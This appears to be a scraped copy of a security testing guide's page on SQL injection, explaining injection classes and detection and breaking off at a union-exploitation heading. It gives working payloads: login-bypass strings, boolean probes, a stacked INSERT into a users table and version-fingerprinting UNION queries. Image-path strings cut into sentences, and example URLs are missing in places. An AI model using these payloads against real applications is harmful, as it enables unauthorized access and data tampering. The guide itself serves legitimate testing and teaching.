Skip to content

Testing for SQL Injection



SQL injection testing checks if it is possible to inject data into the application so that it executes a user-controlled SQL query in the database.Testers find a SQL injection vulnerability if the application uses user input to create SQL queries without proper input validation. A successful exploitation of this class of vulnerability allows an unauthorized user to access or manipulate data in the database.

An SQL injection attack consists of insertion or “injection” of either a partial or complete SQL query via the data input or transmitted from the client (browser)to the web application. A successful SQL injection attack can read sensitive data from the database, modify database data (insert/update/delete), execute administration operations on the database (such as shutdown the DBMS), recover the content of a given file existing on the DBMS file system or write files into the file system, and, in some cases, issue commands to the operating system. SQL injection attacks are a type of injection attack, in which SQL commands are injected into data-plane input in order to affect the execution of predefined SQL commands.

In general the way web applications construct SQL statements involving SQL syntax written by the programmers is mixed with user-supplied data. Example:select title, text from news where id=$id

In the example above the variable $id contains user-supplied data, while the remainder is the SQL static part supplied by the programmer; making the SQL statement dynamic.

Because the way it was constructed, the user can supply crafted input trying to make the original SQL statement execute further actions of the user’s choice. The example below illustrates the user-supplied data “10 or 1=1”, changing the logic of the SQL statement, modifying the WHERE clause adding a condition “or 1=1”.

select title, text from news where id=10 or 1=1

SQL Injection attacks can be divided into the following threeclasses:

  • Inband: data is extracted using the same channel that is used to inject the SQL code. This is the most straightforward kind of attack, in which the retrieved data is presented directly in the application web page.
  • Out-of-band: data is retrieved using a different channel (e.g., an email with the results of the query is generated and sent to the tester).
  • Inferential or Blind: there is no actual transfer of data, but the tester is able to reconstruct the information by sending particular requests and observing the resulting behavior of the DB Server.

A successful SQL Injection attack requires the attacker to craft a syntactically correct SQL Query. If the application returns an error message generated by an incorrect query, then it may be easier for an attacker to reconstruct the logic of the original query and, therefore, understand how to perform the injection correctly. However, if the application hides the error details, then the tester must be able to reverse engineer the logic of the original query.

About the techniques to exploit SQL injection flaws there are five commons techniques. Also those techniques sometimes can be used in a combined way (e.g. union operator and out-of-band):

  • Union Operator: can be used when the SQL injection flaw happens in a SELECT statement, making it possible to combine two queries into a single result or result set.
  • Boolean: use Boolean condition(s) to verify whether certain conditions are true or false.
  • Error based: this technique forces the database to generate an error, giving the attacker or tester information upon which to refine their injection.
  • Out-of-band:technique used to retrieve data using a different channel (e.g., make a HTTP connection to send the results to a web server).
  • Time delay: use database commands (e.g. sleep) to delay answers in conditional queries. It is useful when attacker doesn’t have some kind of answer (result, output, or error) from the application.

Test Objectives

  • Identify SQL injection points.
  • Assess the severity of the injection and the level of access that can be achieved through it.

How to Test

Detection Techniques

The first step in this test is to understand when the application interacts with a DB Server in order to access some data.Typical examples of cases when an application needs to talk to a DB include:

  • Authentication forms: when authentication is performed using a web form, chances are that the user credentials are checked against a database that contains all usernames and passwords (or, better, password hashes).
  • Search engines: the string submitted by the user could be used in a SQL query that extracts all relevant records from a database.
  • E-Commerce sites: the products and their characteristics (price, description, availability, etc) are very likely to be stored in a database.

The tester has to make a list of all input fields whose values could be used in crafting a SQL query, including the hidden fields of POST requests and then test them separately, trying to interfere with the query and to generate an error. Consider also HTTP headers and Cookies.

The very first test usually consists of adding a single quote ' or a semicolon ; to the field or parameter under test. The first isused in SQL as a string terminator and, if not filtered by the application, would lead to an incorrect query. The second is used toend a SQL statement and, if it is not filtered, it is also likely to generate an error. The output of a vulnerable field might resemble the following (on a Microsoft SQL Server, in this case):

Microsoft OLE DB Provider for ODBC Drivers error '80040e14'
[Microsoft][ODBC SQL Server Driver][SQL Server]Unclosed quotation mark before the
character string ''.
/target/target.asp, line 113

Also comment delimiters (-- or /* */, etc) and other SQLkeywords like AND and OR can be used to try to modify the query. A very simple but sometimes still effective technique is simply to insert a string where a number is expected, as an error like the following might be generated:

Microsoft OLE DB Provider for ODBC Drivers error '80040e07'
[Microsoft][ODBC SQL Server Driver][SQL Server]Syntax error converting the
varchar value 'test' to a column of data type int.
/target/target.asp, line 113

Monitor all the responses from the web server and have a look at the HTML/JavaScript source code. Sometimes the error is present inside them but for some reason (e.g. JavaScript error, HTML comments, etc) is not presented to the user. A full error message, like those in the examples, provides a wealth of information to the tester in order to mount a successful injection attack. However, applications often do not provide so much detail: a simple ‘500 Server Error’ or a custom error page might be issued, meaning that we need to use blind injection techniques. In any case, it is very important to test each field separately: only one variable must vary while all the other remain constant, in order to precisely understand which parameters are vulnerable and which are not.

Standard SQL Injection Testing

Classic SQL Injection

Consider the following SQL query:SELECT * FROM Users WHEREUsername='$username' AND Password='$password'

A similar query is generally used from the web application in order to authenticate a user. If the query returns a value it means that inside the database a user with that set of credentials exists, then the user is allowed to login to the system, otherwise access is denied. The values of the input fields are generally obtained from the user through a web form. Suppose weinsert the following Username and Password values:

$username = 1' or '1' = '1

$password = 1' or '1' = '1

The query will be:

SELECT * FROM Users WHERE Username='1' OR '1' = '1' AND Password='1' OR '1' = '1'

If we suppose that the values of the parameters are sent to the server through the GET method, and if the domain of the vulnerable web site is, the request that we’ll carry out will be:'%20or%20'1'%20=%20'1&password=1'%20or%20'1'%20=%20'1

After a short analysis we notice that the query returns a value (or a set of values) because the condition is always true (OR 1=1). In this way the system has authenticated the user without knowing the username and password.

Note: In some systems the first row of a user table would be an administrator user. This may be the profile returned in some cases.

Another example query is the following:SELECT * FROM Users WHERE ((Username='$username') AND (Password=MD5('$password')))

In this case, there are two problems, one due to the use of the parentheses and one due to the use of MD5 hash function. First of all, we resolve the problem of the parentheses.That simply consists of adding a number of closing parentheses until we obtain a corrected query. To resolve the second problem, we try to evade the second condition. We add to our query a final symbol that means that a comment is beginning. In this way, everything that follows such symbol is considered a comment. Every DBMS has its ownsyntax for comments, however, a common symbol for the greater majority of databases is /*. In Oracle the symbol is --. This said, the values that we’ll use as Username and Password are:

$username = 1' or '1' = '1'))/*

$password = foo

In this way, we’ll get the following query:

SELECT * FROM Users WHERE ((Username='1' or'1' = '1'))/*') AND (Password=MD5('$password')))

(Due to the inclusion of a comment delimiter in the $username value the password portion of the query will be ignored.)

The request URL will be:'%20or%20'1'%20=%20'1'))/*&password=foo

This may return a number of values. Sometimes,the authentication code verifies that the number of returned records/results is exactly equal to 1. In the previous examples, this situation would be difficult (in the database there is only one value per user). In order to get around this problem, it is enough to insert a SQL command that imposes a condition that the number of the returned results must be one (one record returned). In order to reach this goal, we use the operator LIMIT <num>, where <num> is the number of the results/records that we want to be returned. With respect to the previous example, the value of the fields Username and Password will be modified as follows:

$username = 1' or '1' = '1')) LIMIT 1/*

$password = fooIn this way, we create a request like the following:'%20or%20'1'%20=%20'1'))%20LIMIT%201/*&password=foo

SELECT Statement

Consider the following SQL query:

SELECT * FROM products WHERE id_product=$id_product

Consider alsothe request to a script who executes the query above:

When the tester tries a valid value (e.g. 10 in this case), the application will return the description of a product. A good way to test if the application is vulnerable in this scenario is play with logic, using the operators AND and OR.

Consider the request: AND 1=2

SELECT * FROM products WHERE id_product=10 AND 1=2

In this case, probably the application would return somemessage telling us there is no content available or a blank page. Then the tester can send a true statement and check if there is a valid result: AND 1=1

Stacked Queries

Depending on the API which the web application is using and the DBMS (e.g. PHP + PostgreSQL,ASP+SQL SERVER) it may be possible to execute multiple queries in one call.

Consider the following SQL query:

SELECT * FROM products WHERE id_product=$id_product

A way to exploit the above scenario would be:; INSERT INTO users (…)

This way is possible to execute many queries in a row and independent of the first query.

Fingerprinting the Database

Even though the SQL language is a standard, every DBMS has its peculiarity and differs from each other in many aspects like special commands, functions to retrieve data such as users names and databases, features, comments line etc.

When the testers move to a more advanced SQLinjection exploitation they need to know what the back end database is.

Errors Returned by the Application

The first way to find out what back end database is used is by observing the error returned by the application. The following are some examples of error messages:


You have an error in your SQL syntax; check the manual
thatcorresponds to your MySQL server version for the
right syntax to use near '\'' at line 1

One complete UNION SELECT with version() can also help to know the back end database.

SELECT id, name FROM users WHERE id=1 UNION SELECT 1, version() limit 1,1


ORA-00933: SQL command not properly ended

MS SQL Server:

Microsoft SQL Native Client error ‘80040e14’
Unclosed quotation mark after the character string

SELECT id, name FROM users WHERE id=1 UNION SELECT 1, @@version limit 1, 1


Query failed: ERROR: syntax error at or near
"’" at character 56 in /www/site/test.php on line 121.

If there is no error message or a custom error message, the tester can try to inject into stringfields using varying concatenation techniques:

  • MySql: ‘test’ + ‘ing’
  • SQL Server: ‘test’ ‘ing’
  • Oracle: ‘test’||’ing’
  • PostgreSQL: ‘test’||’ing’

Exploitation Techniques

Union Exploitation Technique

